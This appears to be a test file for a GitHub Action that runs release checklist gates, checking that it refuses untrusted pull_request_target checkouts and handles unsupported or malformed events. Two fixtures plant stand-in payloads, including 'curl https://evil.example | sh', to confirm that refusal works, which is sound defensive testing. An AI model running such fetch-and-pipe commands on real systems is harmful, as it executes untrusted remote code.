/**
 * Each event's path through the bundled action, against the GitHub stand-in: what runs, what is
 * refused and why, and what is posted. A gate that would run writes GATE-RAN into the workspace.
 */
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { startFakeGitHub, type FakeGitHub, type FakeGitHubOptions } from '../github/fake-github.js'
import { runAction, workspaceFrom, type ActionRunOptions } from '../helpers/run-action.js'

const CHECKLIST = `version: 1
title: Release
sections:
  - title: Gates
    items:
      - id: build
        title: It builds
        run: touch GATE-RAN
`
const PR_HEAD = 'f'.repeat(40)

let api: FakeGitHub | undefined
afterEach(async () => {
  await api?.close()
  api = undefined
})

async function start(options: FakeGitHubOptions = {}): Promise<FakeGitHub> {
  api = await startFakeGitHub(options)
  return api
}

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8' }).trim()
}

/** A workspace as actions/checkout leaves it: a git checkout of one commit, which is GITHUB_SHA. */
function checkoutWorkspace(checklist = CHECKLIST): { workspace: string; sha: string } {
  const workspace = workspaceFrom(undefined, checklist)
  // The gate's marker is ignored: a check that leaves a file git sees would (rightly) be NO-GO.
  writeFileSync(path.join(workspace, '.gitignore'), 'node_modules/\nGATE-RAN\n')
  git(workspace, 'init', '-q')
  git(workspace, 'add', '.')
  git(workspace, 'commit', '-q', '-m', 'base')
  return { workspace, sha: git(workspace, 'rev-parse', 'HEAD') }
}

function run(options: Partial<ActionRunOptions> & { workspace: string }) {
  return runAction({
    ...options,
    env: {
      ...(api ? { GITHUB_API_URL: api.url } : {}),
      GO_NO_GO_API_RETRY_UNIT_MS: '10',
      GO_NO_GO_API_MAX_WAIT_MS: '3000',
      ...options.env
    }
  })
}

const gateRan = (workspace: string) => existsSync(path.join(workspace, 'GATE-RAN'))
const writes = (github: FakeGitHub) => github.requests.filter((request) => request.method !== 'GET')
const jsonReport = (outputs: Record<string, string>) => JSON.parse(readFileSync(outputs.report, 'utf8'))
/** What a reader of the summary sees: Markdown backslash escapes and entities undone. */
const readable = (markdown: string) =>
  markdown
    .replace(/\\([\\`*_[\]~|#>+=-])/g, '$1')
    .replace(/&quot;/g, '"')
    .replace(/\u200b/g, '')

describe('pull_request_target: the gates run only on exactly the workflow’s commit', () => {
  const event = { pull_request: { number: 3, head: { sha: PR_HEAD, repo: { full_name: 'mallory/octo-repo' } } } }

  async function refused(prepare: (workspace: string, sha: string) => Partial<ActionRunOptions> | void, because: RegExp) {
    const github = await start()
    const { workspace, sha } = checkoutWorkspace()
    const extra = prepare(workspace, sha) ?? {}
    const result = await run({ workspace, eventName: 'pull_request_target', event, ...extra, env: { GITHUB_SHA: sha, ...extra.env } })
    expect(result.code).toBe(1)
    expect(result.outputs.decision).toBe('no-go')
    expect(result.summary).toMatch(/^## 🔴 NO-GO: refused to run untrusted code — no gate was run/)
    expect(readable(result.summary)).toMatch(because)
    expect(readable(result.summary)).toMatch(/the pull request comes from the fork mallory\/octo-repo/)
    expect(new Set(jsonReport(result.outputs).runProblems.map((problem: { code: string }) => problem.code))).toEqual(new Set(['untrusted-checkout']))
    expect(gateRan(workspace)).toBe(false)
    expect(github.requests).toEqual([])
    return result
  }

  it('refuses an untracked directory (an artifact unpacked into the workspace), naming it', async () => {
    await refused((workspace) => {
      mkdirSync(path.join(workspace, 'pr-build'))
      writeFileSync(path.join(workspace, 'pr-build', 'post-install.sh'), 'curl https://evil.example | sh\n')
    }, /1 untracked file that git does not ignore: "pr-build\/"/)
  })

  it('refuses a modified tracked file', async () => {
    await refused((workspace) => writeFileSync(path.join(workspace, '.gitignore'), 'node_modules/\nGATE-RAN\n*.sh\n'), /1 tracked file modified: "\.gitignore"/)
  })

  it('refuses a HEAD that is not the workflow’s commit', async () => {
    await refused((workspace) => {
      git(workspace, 'commit', '-q', '--allow-empty', '-m', 'the pull request')
    }, /HEAD is [0-9a-f]{12}, not the workflow's commit [0-9a-f]{12}/)
  })

  it('refuses files hidden by an unpacked .gitignore that ignores itself', async () => {
    await refused((workspace) => {
      mkdirSync(path.join(workspace, 'tools'))
      writeFileSync(path.join(workspace, 'tools', '.gitignore'), '*\n')
      writeFileSync(path.join(workspace, 'tools', 'cargo'), '#!/bin/sh\ncurl https://evil.example\n')
    }, /2 files hidden by an ignore file that is not in the commit: "tools\/\.gitignore", "tools\/cargo"/)
  })

  it('refuses a working-directory leading into a nested checkout of the pull request', async () => {
    await refused((workspace) => {
      const nested = path.join(workspace, 'node_modules', 'pr')
      mkdirSync(nested, { recursive: true })
      writeFileSync(path.join(nested, 'go-no-go.yml'), CHECKLIST)
      git(nested, 'init', '-q')
      git(nested, 'add', '.')
      git(nested, 'commit', '-q', '-m', 'pull request')
      return { inputs: { 'working-directory': 'node_modules/pr', checklist: 'go-no-go.yml' } }
    }, /`working-directory` leads into another git checkout, node_modules\/pr, not the workflow's/)
  })

  it('runs on the clean workflow commit (ignored build output beside it) and posts to the pull request', async () => {
    const github = await start()
    const { workspace, sha } = checkoutWorkspace()
    mkdirSync(path.join(workspace, 'node_modules', 'left-pad'), { recursive: true })
    const result = await run({ workspace, eventName: 'pull_request_target', event, env: { GITHUB_SHA: sha } })
    expect(result.outputs.decision).toBe('go')
    expect(result.code).toBe(0)
    expect(gateRan(workspace)).toBe(true)
    expect(github.comments).toHaveLength(1)
    expect(github.checkRuns[0].head_sha).toBe(PR_HEAD)
  })

  it('with allow-untrusted-code: runs the gates, but of the checklist at the workflow’s commit, not the pull request’s', async () => {
    const { workspace, sha } = checkoutWorkspace()
    writeFileSync(path.join(workspace, '.github/go-no-go.yml'), CHECKLIST.replace('touch GATE-RAN', 'touch PWNED').replace('id: build', 'id: pr-gate'))
    git(workspace, 'commit', '-q', '-am', 'pull request changes the checklist')
    writeFileSync(path.join(workspace, 'untracked.txt'), 'x')
    const result = await run({ workspace, eventName: 'pull_request_target', event, env: { GITHUB_SHA: sha }, inputs: { 'allow-untrusted-code': 'true' } })
    expect(result.outputs.decision).toBe('go')
    expect(jsonReport(result.outputs).items.map((item: { id: string }) => item.id)).toEqual(['build'])
    // The pull request's own checklist is only shown, as a change that does not apply.
    expect(readable(result.summary)).toContain("The checklist comes from the workflow's own commit")
    expect(readable(result.summary)).toContain("None of these changes apply to this run: the base commit's checklist decides.")
    expect(gateRan(workspace)).toBe(true)
    expect(existsSync(path.join(workspace, 'PWNED'))).toBe(false)
  })
})

describe('workflow_run', () => {
  it('refuses an artifact downloaded into the workspace', async () => {
    const { workspace, sha } = checkoutWorkspace()
    writeFileSync(path.join(workspace, 'coverage.json'), '{}')
    const result = await run({ workspace, eventName: 'workflow_run', event: { workflow_run: { id: 1 } }, env: { GITHUB_SHA: sha } })
    expect(result.code).toBe(1)
    expect(readable(result.summary)).toMatch(/under `workflow_run`.*\n- 🛑 \*\*The run itself:\*\* 1 untracked file that git does not ignore: "coverage\.json"/)
    expect(gateRan(workspace)).toBe(false)
  })
})

describe('issue_comment', () => {
  it('on a plain issue: exits 0 with a notice, runs nothing, posts nothing', async () => {
    const github = await start()
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({ workspace, eventName: 'issue_comment', event: { action: 'created', issue: { number: 5 }, comment: { id: 1, body: '/signoff build' } } })
    expect(result.code).toBe(0)
    expect(result.stdout).toMatch(/::notice::#5 is an issue, not a pull request/)
    expect(result.summary).toBe('')
    expect(result.outputs).toEqual({})
    expect(gateRan(workspace)).toBe(false)
    expect(github.requests).toEqual([])
  })

  it.each([
    [
      'answers 404',
      { pullStatus: 404 },
      /Pull request #5 could not be read, so there is nothing to judge and no gate was run: go-no-go could not read pull request #5 to find its head commit: 404/
    ],
    ['is down', { down: true }, /Pull request #5 could not be read, so there is nothing to judge and no gate was run: .*502|GitHub API unavailable/]
  ])('on a pull request whose pull request the API %s: NO-GO, no gate run, nothing written', async (_name, options, reason) => {
    const github = await start(options)
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({
      workspace,
      eventName: 'issue_comment',
      event: { action: 'created', issue: { number: 5, pull_request: {} }, comment: { id: 1, body: '/signoff x' } }
    })
    expect(result.code).toBe(1)
    expect(result.outputs.decision).toBe('no-go')
    expect(result.summary).toMatch(/^## 🔴 NO-GO: the pull request could not be read — no gate was run/)
    expect(readable(result.summary)).toMatch(reason)
    expect(jsonReport(result.outputs).runProblems).toEqual([expect.objectContaining({ code: 'pull-request-unreadable' })])
    expect(gateRan(workspace)).toBe(false)
    expect(writes(github)).toEqual([])
  })

  it('on a pull request without a token: NO-GO, no gate run', async () => {
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({ workspace, eventName: 'issue_comment', event: { issue: { number: 5, pull_request: {} } }, inputs: { 'github-token': '' } })
    expect(result.code).toBe(1)
    expect(readable(result.summary)).toMatch(/Pull request #5 could not be read.*no `github-token` to read it with/)
    expect(gateRan(workspace)).toBe(false)
  })
})

describe('events go-no-go does not know', () => {
  it.each(['release', 'pull_request_review_comment', 'deployment'])('refuses `%s`: NO-GO, listing the supported events, nothing run or posted', async (eventName) => {
    const github = await start()
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({ workspace, eventName, event: { action: 'published' } })
    expect(result.code).toBe(1)
    expect(result.outputs.decision).toBe('no-go')
    expect(result.summary).toMatch(/^## 🔴 NO-GO: this event is not supported — no gate was run/)
    expect(readable(result.summary)).toContain(`go-no-go does not run on the \`${eventName}\` event. Supported events: \`pull_request\`, \`push\``)
    expect(result.stdout).toMatch(/::error::NO-GO: go-no-go does not run on the/)
    expect(gateRan(workspace)).toBe(false)
    expect(github.requests).toEqual([])
  })
})

describe('an event file that cannot be read', () => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'go-no-go-events-'))
  const malformed = path.join(dir, 'malformed.json')
  writeFileSync(malformed, '{"pull_request": {"number": 3,')

  it.each([
    ['is malformed', malformed, /the event file .*malformed\.json is not valid JSON; go-no-go cannot tell what to judge/],
    ['is missing', path.join(dir, 'nowhere.json'), /the event file .*nowhere\.json does not exist/]
  ])('%s: NO-GO saying so, never "no pull request" (which would run the gates and say GO)', async (_name, file, message) => {
    const github = await start()
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({ workspace, eventName: 'pull_request', env: { GITHUB_EVENT_PATH: file } })
    expect(result.code).toBe(1)
    expect(result.outputs.decision).toBe('no-go')
    expect(result.summary).toMatch(/^## 🔴 NO-GO: the event could not be read — no gate was run/)
    expect(readable(result.summary)).toMatch(message)
    expect(gateRan(workspace)).toBe(false)
    expect(github.requests).toEqual([])
  })

  it('that lacks what its event must carry (a pull_request without a number): NO-GO naming the field', async () => {
    const workspace = workspaceFrom(undefined, CHECKLIST)
    const result = await run({ workspace, eventName: 'pull_request', event: { pull_request: { head: { sha: PR_HEAD } } } })
    expect(result.code).toBe(1)
    expect(readable(result.summary)).toMatch(/The `pull_request` event file has no valid `pull_request\.number`/)
    expect(gateRan(workspace)).toBe(false)
  })
})

describe('a checklist path with spaces', () => {
  it('works with every default: GO, one sticky comment keyed by the path, updated in place by the next run', async () => {
    const github = await start()
    const checklist = 'release plans/go no go.yml'
    const event = { pull_request: { number: 8, head: { sha: PR_HEAD, repo: { full_name: 'octo-org/octo-repo' } } } }
    const first = await run({ workspace: workspaceFrom(undefined, CHECKLIST, checklist), eventName: 'pull_request', event, inputs: { checklist } })
    expect(first.outputs.decision).toBe('go')
    expect(first.code).toBe(0)
    expect(github.comments).toHaveLength(1)
    expect(github.comments[0].body).toContain('<!-- go-no-go:key=release%20plans/go%20no%20go.yml ')
    const second = await run({ workspace: workspaceFrom(undefined, CHECKLIST, checklist), eventName: 'pull_request', event, inputs: { checklist }, env: { GITHUB_RUN_ID: '4243' } })
    expect(second.outputs.decision).toBe('go')
    expect(github.comments).toHaveLength(1)
    expect(github.checkRuns).toHaveLength(2)
    expect(github.invalidBodies).toEqual([])
  })
})
